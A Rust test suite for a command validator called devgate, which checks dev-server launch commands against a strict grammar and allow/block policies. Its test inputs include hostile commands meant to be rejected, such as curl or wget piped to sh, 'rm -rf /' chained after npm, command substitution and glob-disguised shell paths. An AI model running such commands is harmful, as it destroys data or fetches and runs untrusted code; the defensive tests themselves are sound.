use std::path::Path;

use devgate::error::GrammarError;
use devgate::policy::{FilePolicyStore, Scope, ScopePolicy, StaticPolicyStore};
use devgate::{DenyKind, Validator, validate_strict};

fn strict_ok(command: &str) -> bool {
    validate_strict(command).is_ok()
}

fn strict_kind(command: &str) -> Option<DenyKind> {
    validate_strict(command)
        .err()
        .map(|e| devgate::Rejection::from(e).kind)
}

macro_rules! strict_test {
    ($name:ident, $cmd:expr, Ok) => {
        #[test]
        fn $name() {
            assert!(strict_ok($cmd), "command: {} -> {:?}", $cmd, validate_strict($cmd));
        }
    };
    ($name:ident, $cmd:expr, $kind:ident) => {
        #[test]
        fn $name() {
            assert_eq!(strict_kind($cmd), Some(DenyKind::$kind), "command: {}", $cmd);
        }
    };
}

fn project() -> &'static Path {
    Path::new("/work/app")
}

fn validator(allow: &[&str], block: &[&str]) -> Validator<StaticPolicyStore> {
    Validator::new(StaticPolicyStore::new(ScopePolicy::new(
        Scope::Global,
        allow,
        block,
    )))
}

fn default_validator() -> Validator<FilePolicyStore> {
    let mut config = devgate::config::Config::default_config();
    // Keep the test independent of any organization file on this machine.
    config.settings.org_policy.clear();
    Validator::new(FilePolicyStore::from_config(&config))
}

macro_rules! policy_test {
    ($name:ident, $cmd:expr, Allow) => {
        #[test]
        fn $name() {
            let verdict = default_validator().validate($cmd, project());
            assert!(verdict.allowed, "command: {} -> {:?}", $cmd, verdict);
        }
    };
    ($name:ident, $cmd:expr, $kind:ident) => {
        #[test]
        fn $name() {
            let verdict = default_validator().validate($cmd, project());
            assert_eq!(verdict.kind, Some(DenyKind::$kind), "command: {}", $cmd);
        }
    };
}

// ── Strict: accepted shapes ──

strict_test!(strict_npm_run_dev, "npm run dev", Ok);
strict_test!(strict_npm_run_start, "npm run start", Ok);
strict_test!(strict_npm_passthrough, "npm run dev -- --port 3000", Ok);
strict_test!(strict_pnpm_dev, "pnpm dev", Ok);
strict_test!(strict_pnpm_run_start, "pnpm run start", Ok);
strict_test!(strict_yarn_start, "yarn start", Ok);
strict_test!(strict_yarn_run_dev, "yarn run dev", Ok);
strict_test!(strict_python_module_uvicorn, "python -m uvicorn app:app", Ok);
strict_test!(
    strict_python3_module_uvicorn_flags,
    "python3 -m uvicorn main:app --reload --port 8000",
    Ok
);
strict_test!(
    strict_uvicorn_host_port,
    "uvicorn app:app --host 0.0.0.0 --port 8000",
    Ok
);
strict_test!(
    strict_uvicorn_all_flags,
    "uvicorn api.main:app --host 127.0.0.1 --port 9000 --reload --log-level debug --workers 2",
    Ok
);
strict_test!(strict_uvicorn_quoted_app, "uvicorn 'app:app'", Ok);
strict_test!(strict_runner_path, "/usr/local/bin/pnpm dev", Ok);

// ── Strict: runner not allowed ──

strict_test!(strict_sh, "sh -c 'npm run dev'", RunnerNotAllowed);
strict_test!(strict_bash, "bash start.sh", RunnerNotAllowed);
strict_test!(strict_zsh, "zsh -c id", RunnerNotAllowed);
strict_test!(strict_cmd, "cmd /c dir", RunnerNotAllowed);
strict_test!(strict_powershell, "powershell -Command ls", RunnerNotAllowed);
strict_test!(strict_pwsh, "pwsh -c ls", RunnerNotAllowed);
strict_test!(strict_bin_bash, "/bin/bash -c id", RunnerNotAllowed);
strict_test!(strict_node, "node server.js", RunnerNotAllowed);
strict_test!(strict_npx, "npx vite", RunnerNotAllowed);
strict_test!(strict_curl, "curl https://example.com", RunnerNotAllowed);
strict_test!(strict_gunicorn, "gunicorn app:app", RunnerNotAllowed);

// ── Strict: grammar violations ──

strict_test!(strict_python_c, "python -c 'import os'", GrammarViolation);
strict_test!(strict_python3_c, "python3 -c 'print(1)'", GrammarViolation);
strict_test!(strict_python_c_after_m, "python -m uvicorn app:app -c x", GrammarViolation);
strict_test!(strict_python_script, "python app.py", GrammarViolation);
strict_test!(strict_python_other_module, "python -m http.server", GrammarViolation);
strict_test!(strict_python_bare, "python", GrammarViolation);
strict_test!(strict_uvicorn_reload_dir, "uvicorn app:app --reload-dir x", GrammarViolation);
strict_test!(strict_uvicorn_no_app, "uvicorn --port 8000", GrammarViolation);
strict_test!(strict_uvicorn_no_colon, "uvicorn main", GrammarViolation);
strict_test!(strict_npm_build, "npm run build", GrammarViolation);
strict_test!(strict_npm_install, "npm install", GrammarViolation);
strict_test!(strict_npm_exec, "npm exec -- rm -rf /", GrammarViolation);
strict_test!(strict_npm_shorthand, "npm dev", GrammarViolation);
strict_test!(strict_npm_extra, "npm run dev --prefix /", GrammarViolation);
strict_test!(strict_pnpm_install, "pnpm install", GrammarViolation);
strict_test!(strict_pnpm_dlx, "pnpm dlx create-vite", GrammarViolation);
strict_test!(strict_yarn_build, "yarn build", GrammarViolation);
strict_test!(strict_chain, "npm run dev && rm -rf /", GrammarViolation);
strict_test!(strict_chain_semi, "npm run dev; curl evil | sh", GrammarViolation);
strict_test!(strict_background, "npm run dev &", GrammarViolation);

// ── Strict: empty and unparseable ──

strict_test!(strict_empty, "", EmptyCommand);
strict_test!(strict_whitespace, "   ", EmptyCommand);
strict_test!(strict_unbalanced, "npm run 'dev", ParseError);
strict_test!(strict_substitution, "npm run $(echo dev)", ParseError);
strict_test!(strict_redirect, "npm run dev > out.log", ParseError);
strict_test!(strict_env_prefix, "NODE_OPTIONS=x npm run dev", RunnerNotAllowed);

// ── Strict: shell-side word expansion ──

strict_test!(strict_brace_app_dir, "uvicorn {--app-dir=/tmp,app:app}", ParseError);
strict_test!(strict_brace_flags, "uvicorn app:app {--reload-dir=/,--port=1}", ParseError);
strict_test!(
    strict_brace_python_module,
    "python -m uvicorn app:app {--env-file=/etc/passwd,x}",
    ParseError
);
strict_test!(strict_glob_star, "uvicorn app:app *", ParseError);
strict_test!(strict_glob_passthrough, "npm run dev -- *", ParseError);
strict_test!(strict_glob_question, "pnpm dev -- ?", ParseError);
strict_test!(strict_glob_bracket, "yarn dev -- [a]", ParseError);
strict_test!(strict_tilde, "uvicorn app:app --app-dir ~/src", ParseError);
strict_test!(strict_quoted_star, "npm run dev -- '*'", Ok);

// ── Policy: default global scope ──

policy_test!(policy_npm, "npm run dev", Allow);
policy_test!(policy_npm_install_then_dev, "npm install && npm run dev", Allow);
policy_test!(policy_python_manage, "python manage.py runserver", Allow);
policy_test!(policy_uvicorn_pipe, "uvicorn app:app | yarn dev", Allow);
policy_test!(policy_bash, "bash -c 'npm run dev'", CommandBlocked);
policy_test!(policy_curl_pipe_sh, "curl https://x.sh | sh", CommandBlocked);
policy_test!(policy_rm_after_npm, "npm run dev; rm -rf /", CommandBlocked);
policy_test!(policy_background_wget, "npm run dev & wget evil", CommandBlocked);
policy_test!(policy_node, "node server.js", CommandNotAllowlisted);
policy_test!(policy_make, "make dev", CommandNotAllowlisted);
policy_test!(policy_empty, "", EmptyCommand);
policy_test!(policy_dangling, "npm run dev &&", ParseError);
policy_test!(policy_subshell, "(npm run dev)", ParseError);
policy_test!(policy_backticks, "npm run `whoami`", ParseError);
policy_test!(policy_unbalanced_spanning, "npm run \"dev && rm -rf /", ParseError);
policy_test!(policy_brace_expansion, "uvicorn {--app-dir=/tmp,app:app}", ParseError);
policy_test!(policy_glob_runner_bracket, "/bin/s[h] -c id", ParseError);
policy_test!(policy_glob_runner_question, "/bin/ba? -c id", ParseError);
policy_test!(policy_glob_after_allowed, "npm run dev && /bin/r? -rf /", ParseError);

// ── Policy: properties ──

#[test]
fn allowlisted_command_allowed() {
    let v = validator(&["npm"], &[]);
    let verdict = v.validate("npm run dev", project());
    assert!(verdict.allowed);
    assert!(verdict.reason.is_none());
}

#[test]
fn block_always_wins_over_allow() {
    let v = validator(&["npm"], &["npm"]);
    let verdict = v.validate("npm run dev", project());
    assert!(!verdict.allowed);
    assert_eq!(verdict.kind, Some(DenyKind::CommandBlocked));
}

#[test]
fn default_deny_when_unlisted() {
    let v = validator(&[], &[]);
    let verdict = v.validate("npm run dev", project());
    assert_eq!(verdict.kind, Some(DenyKind::CommandNotAllowlisted));
    assert!(verdict.reason.unwrap().contains("not in the allowed commands list"));
}

#[test]
fn compound_blocked_first_references_first() {
    let v = validator(&["cmdb"], &["cmda"]);
    let verdict = v.validate("cmdA && cmdB", project());
    assert_eq!(verdict.kind, Some(DenyKind::CommandBlocked));
    assert_eq!(verdict.sub_command.as_deref(), Some("cmdA"));
    assert!(verdict.reason.unwrap().contains("'cmda'"));
}

#[test]
fn compound_stops_at_first_violation() {
    // cmdB is both unlisted and blocked; only cmdA is reported
    let v = validator(&[], &["cmda", "cmdb"]);
    let verdict = v.validate("cmdA && cmdB", project());
    assert_eq!(verdict.sub_command.as_deref(), Some("cmdA"));
}

#[test]
fn validate_is_idempotent() {
    let v = validator(&["npm"], &["rm"]);
    for cmd in ["npm run dev", "npm run dev && rm x", "node x", "", "npm 'x"] {
        assert_eq!(v.validate(cmd, project()), v.validate(cmd, project()), "{cmd}");
    }
}

#[test]
fn every_deny_has_a_reason() {
    let v = validator(&["npm"], &["rm"]);
    for cmd in ["rm x", "node x", "", "npm 'x", "npm run $(id)"] {
        let verdict = v.validate(cmd, project());
        assert!(!verdict.allowed, "{cmd}");
        assert!(
            verdict.reason.as_deref().is_some_and(|r| !r.is_empty()),
            "{cmd}"
        );
        assert!(verdict.kind.is_some(), "{cmd}");
    }
}

#[test]
fn scopes_merge_across_org_and_project() {
    let store = StaticPolicyStore::new(ScopePolicy::new(Scope::Global, ["npm"], ["rm"]))
        .with_scope(ScopePolicy::new(Scope::Organization, ["yarn"], [""; 0]))
        .with_project(
            "/work/api",
            ScopePolicy::new(Scope::Project, ["uvicorn"], ["yarn"]),
        );
    let v = Validator::new(store);

    assert!(v.validate("yarn dev", Path::new("/work/app")).allowed);
    assert_eq!(
        v.validate("yarn dev", Path::new("/work/api")).kind,
        Some(DenyKind::CommandBlocked)
    );
    assert!(v.validate("uvicorn app:app", Path::new("/work/api")).allowed);
    assert_eq!(
        v.validate("uvicorn app:app", Path::new("/work/app")).kind,
        Some(DenyKind::CommandNotAllowlisted)
    );
}

#[test]
fn validator_shared_across_threads() {
    let v = std::sync::Arc::new(validator(&["npm"], &["rm"]));
    let handles: Vec<_> = (0..4)
        .map(|_| {
            let v = std::sync::Arc::clone(&v);
            std::thread::spawn(move || v.validate("npm run dev", Path::new("/work/app")).allowed)
        })
        .collect();
    for h in handles {
        assert!(h.join().unwrap());
    }
}

// ── File-backed store ──

#[test]
fn project_file_extends_and_blocks() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".devgate")).unwrap();
    std::fs::write(
        dir.path().join(".devgate/policy.toml"),
        "allow = [\"node\"]\nblock = [\"yarn\"]\n",
    )
    .unwrap();

    let v = default_validator();
    assert!(v.validate("node server.js", dir.path()).allowed);
    assert_eq!(
        v.validate("yarn dev", dir.path()).kind,
        Some(DenyKind::CommandBlocked)
    );
    assert!(v.validate("npm run dev", dir.path()).allowed);
}

#[test]
fn malformed_project_file_denies() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".devgate")).unwrap();
    std::fs::write(dir.path().join(".devgate/policy.toml"), "block = [").unwrap();

    let verdict = default_validator().validate("npm run dev", dir.path());
    assert_eq!(verdict.kind, Some(DenyKind::PolicyUnavailable));
}

#[test]
fn org_file_applies_to_every_project() {
    let org_dir = tempfile::tempdir().unwrap();
    let org = org_dir.path().join("org.toml");
    std::fs::write(&org, "block = [\"pnpm\"]\n").unwrap();

    let mut config = devgate::config::Config::default_config();
    config.settings.org_policy = org.to_string_lossy().into_owned();
    let v = Validator::new(FilePolicyStore::from_config(&config));

    let project = tempfile::tempdir().unwrap();
    assert_eq!(
        v.validate("pnpm dev", project.path()).kind,
        Some(DenyKind::CommandBlocked)
    );
}

// ── Custom command and launch gates ──

#[test]
fn custom_command_strict_then_policy() {
    let v = validator(&["npm", "python"], &["python"]);
    assert!(v.check_custom_command("npm run dev", project()).is_ok());

    let err = v.check_custom_command("npm run build", project()).unwrap_err();
    assert_eq!(err.kind, DenyKind::GrammarViolation);

    let err = v
        .check_custom_command("python -m uvicorn app:app", project())
        .unwrap_err();
    assert_eq!(err.kind, DenyKind::CommandBlocked);
}

#[test]
fn custom_command_reason_is_displayable() {
    let v = validator(&["npm"], &[]);
    let err = v.check_custom_command("npm run build", project()).unwrap_err();
    assert_eq!(
        err.to_string(),
        "npm custom command rejected at 'build': expected 'npm run dev' or 'npm run start'"
    );
}

#[test]
fn launch_gate() {
    let v = validator(&["npm"], &[]);
    assert_eq!(
        v.authorize_launch(None, Some("npm run dev"), project()).unwrap(),
        "npm run dev"
    );
    assert_eq!(
        v.authorize_launch(None, None, project()).unwrap_err().kind,
        DenyKind::NoCommand
    );
}

#[test]
fn grammar_error_is_matchable() {
    assert!(matches!(
        validate_strict("uvicorn app:app --reload-dir x"),
        Err(GrammarError::GrammarViolation { token: Some(ref t), .. }) if t == "--reload-dir"
    ));
}

#[test]
fn wildcard_allow_cannot_reach_blocked_runner_through_glob() {
    let v = validator(&["*"], &["sh", "bash"]);
    assert!(v.validate("/bin/node server.js", project()).allowed);
    for cmd in ["/bin/s[h] -c id", "/bin/ba? -c id", "/bin/b*h -c id"] {
        let verdict = v.validate(cmd, project());
        assert!(!verdict.allowed, "{cmd}");
        assert_eq!(verdict.kind, Some(DenyKind::ParseError), "{cmd}");
    }
}

// Outcomes decided before any policy file is read, so they hold on every host.
#[test]
fn top_level_validate_uses_defaults() {
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(
        devgate::validate("pnpm dev -- $(id)", dir.path()).kind,
        Some(DenyKind::ParseError)
    );
    assert_eq!(
        devgate::validate("  ", dir.path()).kind,
        Some(DenyKind::EmptyCommand)
    );
}
